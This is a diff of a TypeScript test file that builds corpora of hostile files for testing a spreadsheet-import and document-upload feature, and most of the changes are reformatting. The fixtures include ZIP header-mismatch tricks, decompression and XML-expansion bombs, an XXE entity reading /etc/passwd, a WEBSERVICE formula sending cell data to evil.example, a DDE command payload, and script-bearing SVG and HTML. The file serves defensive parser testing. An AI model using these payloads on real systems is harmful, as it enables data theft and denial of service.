@@ -68,7 +68,10 @@ export const REPEAT_BOMB = contentXml(
 )
 const HARMLESS = contentXml(tableXml('A', [HEADER, candidateRow(0)]))
 const MIMETYPE = { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true }
-const STYLES = { name: 'styles.xml', data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>') }
+const STYLES = {
+  name: 'styles.xml',
+  data: Buffer.from('<?xml version="1.0" encoding="UTF-8"?><office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
+}
 const odsOf = (...entries: ZipEntry[]) => zip([MIMETYPE, { name: 'META-INF/manifest.xml', data: Buffer.from(manifest()) }, ...entries, STYLES])
 
 /**
@@ -89,7 +92,10 @@ export function differentialCorpus(): HostileFile[] {
   const content = (data: string) => ({ name: 'content.xml', data: Buffer.from(data) })
 
   // (a) The method: the central directory says content.xml is stored, its local header says deflated.
-  add('content.xml stored for the central directory, deflated for its local header', patched([content(REPEAT_BOMB)], (a) => a.writeUInt16LE(0, headersOf(a, 'content.xml').central + 10)))
+  add(
+    'content.xml stored for the central directory, deflated for its local header',
+    patched([content(REPEAT_BOMB)], (a) => a.writeUInt16LE(0, headersOf(a, 'content.xml').central + 10)),
+  )
   // (b) The name: the central directory calls the harmless entry content.xml, the local headers call the bomb so.
   add(
     'names swapped between the central directory and the local headers',
@@ -101,20 +107,38 @@ export function differentialCorpus(): HostileFile[] {
     }),
   )
   // Sizes and CRC.
-  add('compressed size differs between the headers', patched([content(HARMLESS)], (a) => a.writeUInt32LE(a.readUInt32LE(headersOf(a, 'content.xml').local + 18) + 1, headersOf(a, 'content.xml').local + 18)))
-  add('uncompressed size differs between the headers', patched([content(HARMLESS)], (a) => a.writeUInt32LE(64, headersOf(a, 'content.xml').central + 24)))
-  add('CRC differs between the headers', patched([content(HARMLESS)], (a) => a.writeUInt32LE(0xdeadbeef, headersOf(a, 'content.xml').local + 14)))
-  add('both headers agree on a false size (the data inflates to more)', patched([content(HARMLESS)], (a) => {
-    const { local, central } = headersOf(a, 'content.xml')
-    a.writeUInt32LE(100, local + 22)
-    a.writeUInt32LE(100, central + 24)
-  }))
-  add('both headers agree on a false CRC', patched([content(HARMLESS)], (a) => {
-    const { local, central } = headersOf(a, 'content.xml')
-    a.writeUInt32LE(1, local + 14)
-    a.writeUInt32LE(1, central + 16)
-  }))
-  add('flags differ between the headers (data descriptor announced in one only)', patched([content(HARMLESS)], (a) => a.writeUInt16LE(0x0808, headersOf(a, 'content.xml').local + 6)))
+  add(
+    'compressed size differs between the headers',
+    patched([content(HARMLESS)], (a) => a.writeUInt32LE(a.readUInt32LE(headersOf(a, 'content.xml').local + 18) + 1, headersOf(a, 'content.xml').local + 18)),
+  )
+  add(
+    'uncompressed size differs between the headers',
+    patched([content(HARMLESS)], (a) => a.writeUInt32LE(64, headersOf(a, 'content.xml').central + 24)),
+  )
+  add(
+    'CRC differs between the headers',
+    patched([content(HARMLESS)], (a) => a.writeUInt32LE(0xdeadbeef, headersOf(a, 'content.xml').local + 14)),
+  )
+  add(
+    'both headers agree on a false size (the data inflates to more)',
+    patched([content(HARMLESS)], (a) => {
+      const { local, central } = headersOf(a, 'content.xml')
+      a.writeUInt32LE(100, local + 22)
+      a.writeUInt32LE(100, central + 24)
+    }),
+  )
+  add(
+    'both headers agree on a false CRC',
+    patched([content(HARMLESS)], (a) => {
+      const { local, central } = headersOf(a, 'content.xml')
+      a.writeUInt32LE(1, local + 14)
+      a.writeUInt32LE(1, central + 16)
+    }),
+  )
+  add(
+    'flags differ between the headers (data descriptor announced in one only)',
+    patched([content(HARMLESS)], (a) => a.writeUInt16LE(0x0808, headersOf(a, 'content.xml').local + 6)),
+  )
   // Duplicate names, exact or as SheetJS compares them (no case, \ for /).
   add('content.xml twice (harmless, then the bomb)', odsOf(content(HARMLESS), content(REPEAT_BOMB)))
   add('content.xml and CONTENT.XML', odsOf(content(HARMLESS), { name: 'CONTENT.XML', data: Buffer.from(REPEAT_BOMB) }))
@@ -122,7 +146,9 @@ export function differentialCorpus(): HostileFile[] {
   // Entries that overlap: two records of the central directory for one local header.
   add(
     'two central records pointing at one local header',
-    patched([content(HARMLESS), { name: 'settings.xml', data: Buffer.from('<x/>') }], (a) => a.writeUInt32LE(headersOf(a, 'content.xml').local, headersOf(a, 'settings.xml').central + 42)),
+    patched([content(HARMLESS), { name: 'settings.xml', data: Buffer.from('<x/>') }], (a) =>
+      a.writeUInt32LE(headersOf(a, 'content.xml').local, headersOf(a, 'settings.xml').central + 42),
+    ),
   )
   // A ZIP64 extra field, which SheetJS reads to replace the sizes of the headers.
   add(
@@ -184,13 +210,25 @@ export function importCorpus(template?: Buffer): HostileFile[] {
     { name: 'Windows executable renamed .ods', filename: 'liste.ods', bytes: EXE },
     { name: 'HTML with a script renamed .ods', filename: 'liste.ods', bytes: HTML },
     { name: 'CSV text renamed .ods', filename: 'liste.ods', bytes: Buffer.from([HEADER.join(';'), '1;Dupont;Julie;13/03/1996;Le Havre;76;France'].join('\n')) },
-    { name: 'OpenDocument text (.odt) renamed .ods', filename: 'liste.ods', bytes: ods([], { mimetype: 'application/vnd.oasis.opendocument.text', content: '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:text/></office:body></office:document-content>' }) },
+    {
+      name: 'OpenDocument text (.odt) renamed .ods',
+      filename: 'liste.ods',
+      bytes: ods([], {
+        mimetype: 'application/vnd.oasis.opendocument.text',
+        content:
+          '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:text/></office:body></office:document-content>',
+      }),
+    },
     { name: 'random bytes', filename: 'liste.ods', bytes: Buffer.from(Array.from({ length: 20_000 }, (_, i) => (i * 2654435761) % 251)) },
     { name: 'empty file', filename: 'liste.ods', bytes: Buffer.alloc(0) },
     // Broken archives
     { name: 'truncated zip (half of a good .ods)', filename: 'liste.ods', bytes: sheet(rows(20)).subarray(0, Math.floor(sheet(rows(20)).length / 2)) },
     { name: 'zip signature then garbage', filename: 'liste.ods', bytes: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(2000, 0x41)]) },
-    { name: 'zip without content.xml', filename: 'liste.ods', bytes: zip([{ name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true }]) },
+    {
+      name: 'zip without content.xml',
+      filename: 'liste.ods',
+      bytes: zip([{ name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true }]),
+    },
     { name: 'content.xml that is not XML', filename: 'liste.ods', bytes: ods([], { content: '\u0000\u0001 ceci n’est pas du XML <<<' }) },
     // Resource exhaustion
     {
@@ -199,7 +237,18 @@ export function importCorpus(template?: Buffer): HostileFile[] {
       bytes: zip([
         { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), store: true },
         { name: 'META-INF/manifest.xml', data: Buffer.from(manifest()) },
-        { name: 'content.xml', raw: bombStream(contentXml('<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>').replace(/<\/office:spreadsheet>.*$/, ''), Buffer.alloc(MB, 0x20), 1024, '</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>') },
+        {
+          name: 'content.xml',
+          raw: bombStream(
+            contentXml('<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>').replace(
+              /<\/office:spreadsheet>.*$/,
+              '',
+            ),
+            Buffer.alloc(MB, 0x20),
+            1024,
+            '</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
+          ),
+        },
       ]),
     },
     {
@@ -214,15 +263,49 @@ export function importCorpus(template?: Buffer): HostileFile[] {
       })(),
     },
     { name: '38 MB of text in 200 cells (49 KB zipped)', filename: 'liste.ods', bytes: heavyTextSheet() },
-    { name: '6 MB file', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: [HEADER, ...rows(3)] }], { extraEntries: [{ name: 'Pictures/remplissage.bin', data: Buffer.from(Array.from({ length: 6 * MB }, (_, i) => (i * 2654435761) % 256)), store: true }] }) },
+    {
+      name: '6 MB file',
+      filename: 'liste.ods',
+      bytes: ods([{ name: 'A', rows: [HEADER, ...rows(3)] }], {
+        extraEntries: [{ name: 'Pictures/remplissage.bin', data: Buffer.from(Array.from({ length: 6 * MB }, (_, i) => (i * 2654435761) % 256)), store: true }],
+      }),
+    },
     { name: '10,000 rows', filename: 'liste.ods', bytes: sheet(rows(10_000)) },
     {
       name: 'one row repeated a million times (table:number-rows-repeated)',
       filename: 'liste.ods',
-      bytes: ods([], { content: contentXml(`<table:table table:name="A">${tableXml('x', [HEADER]).replace(/^<table:table[^>]*>|<\/table:table>$/g, '')}<table:table-row table:number-rows-repeated="1000000">${candidateRow(0).map((c) => (typeof c === 'string' || typeof c === 'number' ? `<table:table-cell office:value-type="string"><text:p>${c}</text:p></table:table-cell>` : '<table:table-cell/>')).join('')}</table:table-row></table:table>`) }),
+      bytes: ods([], {
+        content: contentXml(
+          `<table:table table:name="A">${tableXml('x', [HEADER]).replace(/^<table:table[^>]*>|<\/table:table>$/g, '')}<table:table-row table:number-rows-repeated="1000000">${candidateRow(
+            0,
+          )
+            .map((c) =>
+              typeof c === 'string' || typeof c === 'number'
+                ? `<table:table-cell office:value-type="string"><text:p>${c}</text:p></table:table-cell>`
+                : '<table:table-cell/>',
+            )
+            .join('')}</table:table-row></table:table>`,
+        ),
+      }),
     },
-    { name: 'a cell repeated 16,384 columns wide, a million rows', filename: 'liste.ods', bytes: ods([], { content: contentXml(`<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`) }) },
-    { name: 'deeply nested XML (100,000 levels)', filename: 'liste.ods', bytes: ods([], { content: contentXml(`<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>${'<text:span>'.repeat(100_000)}Dupont${'</text:span>'.repeat(100_000)}</text:p></table:table-cell></table:table-row></table:table>`) }) },
+    {
+      name: 'a cell repeated 16,384 columns wide, a million rows',
+      filename: 'liste.ods',
+      bytes: ods([], {
+        content: contentXml(
+          `<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
+        ),
+      }),
+    },
+    {
+      name: 'deeply nested XML (100,000 levels)',
+      filename: 'liste.ods',
+      bytes: ods([], {
+        content: contentXml(
+          `<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>${'<text:span>'.repeat(100_000)}Dupont${'</text:span>'.repeat(100_000)}</text:p></table:table-cell></table:table-row></table:table>`,
+        ),
+      }),
+    },
     {
       name: 'XML entity expansion ("billion laughs")',
       filename: 'liste.ods',
@@ -233,10 +316,24 @@ export function importCorpus(template?: Buffer): HostileFile[] {
         ),
       }),
     },
-    { name: 'external entity (XXE) in the header', filename: 'liste.ods', bytes: ods([], { content: contentXml(tableXml('A', [HEADER]).replace('Nom de naissance', '&xxe;'), '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }) },
+    {
+      name: 'external entity (XXE) in the header',
+      filename: 'liste.ods',
+      bytes: ods([], {
+        content: contentXml(tableXml('A', [HEADER]).replace('Nom de naissance', '&xxe;'), '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+      }),
+    },
     // Hostile cell contents
-    { name: 'formula cell (HYPERLINK) as a name', filename: 'liste.ods', bytes: withRow({ last: { formula: 'of:=HYPERLINK("http://evil.example/";"Dupont")', text: 'Dupont' } }) },
-    { name: 'formula cell (WEBSERVICE) as an e-mail', filename: 'liste.ods', bytes: withRow({ email: { formula: 'of:=WEBSERVICE("http://evil.example/?"&[.B2])', text: 'julie@example.org' } }) },
+    {
+      name: 'formula cell (HYPERLINK) as a name',
+      filename: 'liste.ods',
+      bytes: withRow({ last: { formula: 'of:=HYPERLINK("http://evil.example/";"Dupont")', text: 'Dupont' } }),
+    },
+    {
+      name: 'formula cell (WEBSERVICE) as an e-mail',
+      filename: 'liste.ods',
+      bytes: withRow({ email: { formula: 'of:=WEBSERVICE("http://evil.example/?"&[.B2])', text: 'julie@example.org' } }),
+    },
     { name: 'DDE payload typed as text', filename: 'liste.ods', bytes: withRow({ last: "=cmd|' /C calc'!A0" }) },
     { name: 'formula-looking text (=1+1) as a first name', filename: 'liste.ods', bytes: withRow({ first: '=1+1' }) },
     { name: 'NUL character in a name', filename: 'liste.ods', bytes: withRow({ last: 'Dup\u0000ont' }) },
@@ -249,13 +346,29 @@ export function importCorpus(template?: Buffer): HostileFile[] {
     { name: '2,000-character birth city', filename: 'liste.ods', bytes: withRow({ city: long(2000) }) },
     { name: '2,000-character local id', filename: 'liste.ods', bytes: withRow({ local: long(2000) }) },
     // Wrong shape
-    { name: 'header in English', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: [['#', 'Last name', 'First name', 'Birthdate', 'Birth city', 'Department', 'Country'], ...rows(3)] }]) },
-    { name: 'header without the first-name column', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: [HEADER.filter((h) => h !== 'Prénom'), ...rows(3).map((r) => r.filter((_, i) => i !== 2))] }]) },
+    {
+      name: 'header in English',
+      filename: 'liste.ods',
+      bytes: ods([{ name: 'A', rows: [['#', 'Last name', 'First name', 'Birthdate', 'Birth city', 'Department', 'Country'], ...rows(3)] }]),
+    },
+    {
+      name: 'header without the first-name column',
+      filename: 'liste.ods',
+      bytes: ods([{ name: 'A', rows: [HEADER.filter((h) => h !== 'Prénom'), ...rows(3).map((r) => r.filter((_, i) => i !== 2))] }]),
+    },
     { name: 'rows without any header', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: rows(5) }]) },
     { name: 'empty sheet', filename: 'liste.ods', bytes: ods([{ name: 'A', rows: [] }]) },
     { name: 'header only, no candidate', filename: 'liste.ods', bytes: sheet([]) },
     // Ambiguous: importing one of the two lists would silently drop the other's candidates.
-    { name: 'several sheets, each with its own list', filename: 'liste.ods', bytes: ods([{ name: 'Salle 1', rows: [HEADER, ...rows(3)] }, { name: 'Salle 2', rows: [HEADER, ...rows(3, 100)] }, { name: 'Salle 3', rows: [HEADER, ...rows(3, 200)] }]) },
+    {
+      name: 'several sheets, each with its own list',
+      filename: 'liste.ods',
+      bytes: ods([
+        { name: 'Salle 1', rows: [HEADER, ...rows(3)] },
+        { name: 'Salle 2', rows: [HEADER, ...rows(3, 100)] },
+        { name: 'Salle 3', rows: [HEADER, ...rows(3, 200)] },
+      ]),
+    },
     // Valid shape, invalid rows (all-or-nothing)
     { name: 'impossible date (31/02/2000)', filename: 'liste.ods', bytes: withRow({ birthdate: '31/02/2000' }) },
     { name: 'date in the future', filename: 'liste.ods', bytes: withRow({ birthdate: '01/01/2999' }) },
@@ -279,7 +392,12 @@ export function documentCorpus(): Array<HostileFile & { comment?: string }> {
     { name: 'Windows executable renamed .pdf', filename: 'rapport.pdf', bytes: EXE, type: 'application/pdf' },
     { name: 'HTML with a script renamed .png', filename: 'capture.png', bytes: HTML, type: 'image/png' },
     { name: 'HTML with a script', filename: 'page.html', bytes: HTML, type: 'text/html' },
-    { name: 'SVG with a script', filename: 'capture.svg', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), type: 'image/svg+xml' },
+    {
+      name: 'SVG with a script',
+      filename: 'capture.svg',
+      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+      type: 'image/svg+xml',
+    },
     { name: 'JavaScript file', filename: 'script.js', bytes: Buffer.from('alert(document.cookie)'), type: 'text/javascript' },
     { name: 'zip renamed .jpg', filename: 'photo.jpg', bytes: zip([{ name: 'a.txt', data: Buffer.from('a') }]), type: 'image/jpeg' },
     { name: 'text renamed .pdf', filename: 'rapport.pdf', bytes: Buffer.from('Ceci n’est pas un PDF.'), type: 'application/pdf' },
